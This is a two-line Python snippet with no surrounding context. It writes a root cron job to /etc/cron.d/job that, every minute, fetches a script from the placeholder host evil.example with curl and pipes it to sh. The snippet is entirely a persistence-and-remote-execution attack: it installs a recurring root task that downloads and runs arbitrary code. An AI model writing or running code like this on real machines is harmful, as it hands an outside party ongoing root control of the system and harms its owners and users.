with open("/etc/cron.d/job", "w") as f:
    f.write("* * * * * root curl http://evil.example | sh\n")
